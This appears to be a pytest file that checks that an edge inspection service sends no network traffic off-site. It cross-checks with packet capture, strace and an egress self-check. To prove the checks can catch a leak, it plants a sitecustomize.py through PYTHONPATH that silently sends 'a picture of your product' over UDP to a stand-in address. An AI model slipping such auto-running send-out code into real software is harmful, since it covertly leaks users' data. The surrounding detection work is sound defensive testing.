"""Nothing leaves the site: shown by the packets that leave, by the calls that are made, and by `doctor --egress`.

Each is also shown a line that does leave: what finds nothing must be able to find something.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from conftest import StartLine
from daemon import START_S, wait_until
from test_e2e_offline import ALONE
from traced import Trace, read_trace

STRACE = ["strace", "-f", "-qq", "-e", "trace=network", "-e", "signal=none", "-o"]
WAY_OUT = str(Path(__file__).with_name("way_out.py"))
NAME_SERVICE = {'"/var/run/nscd/socket"'}
"""The C library asks there for the name of a user; it leads to this computer alone, and mostly to nobody."""
WITHOUT_OUR_WORD = {name: value for name, value in os.environ.items() if name not in ("ORT_DISABLE_TELEMETRY", "CI")}
"""The line itself must keep ONNX Runtime from calling its maker, not the environment of these tests. With `CI=true`
it calls nobody anyway."""
LEAK = """\
import sys
if "edge_inspector.app.inspect" in sys.orig_argv:
    import socket
    sys.kept = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sys.kept.connect(("192.0.2.1", 53))
    sys.kept.send(b"a picture of your product")
"""
"""Python runs it before anything else: an inspect process that calls out, to an address that belongs to nobody."""


def _is_refused(*command: str) -> bool:
    return shutil.which(command[0]) is None or subprocess.run(command, check=False, capture_output=True).returncode != 0


def with_leak(folder: Path) -> dict[str, str]:
    """Return an environment in which the inspect process calls out."""
    (folder / "leak").mkdir()
    (folder / "leak" / "sitecustomize.py").write_text(LEAK)
    return {"PYTHONPATH": os.pathsep.join([str(folder / "leak"), os.environ.get("PYTHONPATH", "")]).rstrip(os.pathsep)}


def sealed(make_line: StartLine, folder: Path, env: dict[str, str]) -> dict[str, Any]:
    line = make_line(camera={"count": None, "rate_hz": 50.0})
    script = Path(__file__).with_name("sealed_run.py")
    done = subprocess.run(
        [*ALONE, sys.executable, str(script), str(line.config), str(folder / "heard.jsonl")],
        stdout=subprocess.PIPE, env=WITHOUT_OUR_WORD | env, check=True, timeout=110,
    )  # fmt: skip
    found: dict[str, Any] = json.loads(done.stdout.splitlines()[-1])
    assert found["would_show"] == ["protocol 17 to 192.0.2.1"], "what leaves would not be seen here"
    assert (found["code"], found["hello"]["line"]) == (0, "e2e")
    assert found["page"] > 1000
    return found


def rows(report: dict[str, Any], status: str) -> list[str]:
    return [row["seen"] for row in report["rows"] if row["status"] == status]


@pytest.mark.timeout(120)
@pytest.mark.skipif(_is_refused(*ALONE, sys.executable, WAY_OUT), reason="unshare or a tun device is refused")
def test_a_line_at_work_with_clients_sends_no_packet_by_a_way_out_that_is_open(
    make_line: StartLine, tmp_path: Path
) -> None:
    found = sealed(make_line, tmp_path, {})

    assert (found["sent"], found["n_sent"], found["no_route"]) == ([], 0, 0)
    assert (tmp_path / "heard.jsonl").read_text().count("\n") > 10
    assert (found["egress"]["exit_code"], rows(found["egress"], "failed")) == (0, [])
    assert any("none that is not named" in seen for seen in rows(found["egress"], "ok"))
    assert any("connected to signals" in seen for seen in rows(found["egress"], "ok"))
    assert found["doctor"]["exit_code"] == 0


@pytest.mark.timeout(120)
@pytest.mark.skipif(_is_refused(*ALONE, sys.executable, WAY_OUT), reason="unshare or a tun device is refused")
def test_a_line_that_calls_out_is_seen_by_its_packets_and_by_the_doctor(make_line: StartLine, tmp_path: Path) -> None:
    found = sealed(make_line, tmp_path, with_leak(tmp_path))

    assert set(found["sent"]) == {"protocol 17 to 192.0.2.1"}
    assert found["n_sent"] == len(found["sent"])
    assert found["egress"]["exit_code"] == 70
    [seen] = rows(found["egress"], "failed")
    assert seen.startswith("NOT NAMED: inspect (process ")
    assert seen.endswith("-> 192.0.2.1:53")


def traced(make_line: StartLine, folder: Path, env: dict[str, str]) -> tuple[Trace, set[str]]:
    """Return what a whole run did with sockets, and the addresses that its configuration names."""
    line = make_line(camera={"count": 40, "rate_hz": 20.0})
    out = folder / "trace.txt"
    words = [*STRACE, str(out), sys.executable, "-m", "edge_inspector.cli.main"]
    line.start(env, program=("-c", f"import os, sys; os.execvp('strace', {words!r} + sys.argv[1:])"))
    wait_until(line.page, START_S, "the metrics page")
    listener = line.listen()
    listener.wait_for_verdicts(40)
    assert line.wait_exit(30) == 0
    line.end_listeners()
    named = {endpoint.removeprefix("tcp://") for endpoint in line.endpoints.values()}
    return read_trace(out.read_text(errors="replace").splitlines()), named | {f"127.0.0.1:{line.metrics_port}"}


@pytest.mark.timeout(120)
@pytest.mark.skipif(_is_refused("strace", "-qq", "-o", "/dev/null", "true"), reason="strace is refused here")
def test_a_whole_run_binds_what_is_named_and_connects_to_nobody(make_line: StartLine, tmp_path: Path) -> None:
    trace, named = traced(make_line, tmp_path, {})

    assert {place for place in trace.bound if not place.startswith('"')} == named
    assert all(place.endswith('/control.sock"') for place in trace.bound if place.startswith('"'))
    assert trace.reached - NAME_SERVICE == set()
    assert trace.families <= {"AF_UNIX", "AF_INET", "AF_INET6", "AF_NETLINK"}


@pytest.mark.timeout(120)
@pytest.mark.skipif(_is_refused("strace", "-qq", "-o", "/dev/null", "true"), reason="strace is refused here")
def test_a_run_that_calls_out_is_seen_in_its_calls(make_line: StartLine, tmp_path: Path) -> None:
    trace, _ = traced(make_line, tmp_path, with_leak(tmp_path))

    assert trace.reached - NAME_SERVICE == {"192.0.2.1:53"}


@pytest.mark.parametrize(
    ("row", "reached"),
    [
        ('7 connect(3, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("192.0.2.1")}, 16) = 0',
         {"192.0.2.1:53"}),
        ('7 connect(3, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("192.0.2.1")}, 16 <unfinished ...>',
         {"192.0.2.1:80"}),
        ('7 connect(3, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, '
         '"2001:db8::1", &sin6_addr), sin6_scope_id=0}, 28) = -1 ENETUNREACH (Network is unreachable)',
         {"[2001:db8::1]:443"}),
        ('7 sendto(3, "x", 1, 0, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("192.0.2.1")}, 16) = 1',
         {"192.0.2.1:53"}),
        ('7 sendmmsg(3, [{msg_hdr={msg_name={sa_family=AF_INET, sin_port=htons(9), sin_addr=inet_addr("192.0.2.1")}, '
         'msg_namelen=16, msg_iov=[{iov_base="x", iov_len=1}], msg_iovlen=1}, msg_len=1}], 1, 0) = 1',
         {"192.0.2.1:9"}),
        ('7 connect(3, {sa_family=AF_UNIX, sun_path=@"/tmp/x"}, 110) = 0', {'@"/tmp/x"'}),
        ('7 accept4(9, {sa_family=AF_INET, sin_port=htons(5), sin_addr=inet_addr("127.0.0.1")}, [16], 0) = 3', set()),
        ('7 sendto(3, "x", 1, MSG_NOSIGNAL, NULL, 0) = 1', set()),
    ],
    ids=["connect", "unfinished", "v6", "sendto", "sendmmsg", "unix", "accept", "connected"],
)  # fmt: skip
def test_each_call_that_names_an_address_is_read(row: str, reached: set[str]) -> None:
    assert read_trace([row]).reached == reached
